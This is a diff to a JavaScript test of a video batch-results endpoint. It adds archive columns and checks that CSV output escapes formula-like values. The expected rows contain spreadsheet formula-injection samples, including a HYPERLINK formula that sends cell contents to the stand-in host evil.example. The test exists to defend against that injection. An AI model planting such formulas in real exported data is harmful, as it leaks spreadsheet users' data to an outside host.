@@ -123,13 +123,13 @@ describe('GET /v1/batches/:id/results', () => {
     expect(out.statusCode).toBe(200);
     const lines = out.body.split('\n');
     expect(lines[0]).toBe(
-      "row,custom_id,status,video_url,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,'=cmd,note",
+      "row,custom_id,status,video_url,provider_video_url,archive_status,archive_bytes,archive_sha256,archived_at,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,'=cmd,note",
     );
     expect(lines[1]).toBe(
-      `1,'+1,failed,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,,,'@SUM(A1),'-2+3`,
+      `1,'+1,failed,,,,,,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,,,'@SUM(A1),'-2+3`,
     );
     expect(lines[2]).toBe(
-      `2,plain,failed,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,,,'\tx,ok`,
+      `2,plain,failed,,,,,,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,,,'\tx,ok`,
     );
     // JSONL carries the values as they are: it is not opened by spreadsheets.
     const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
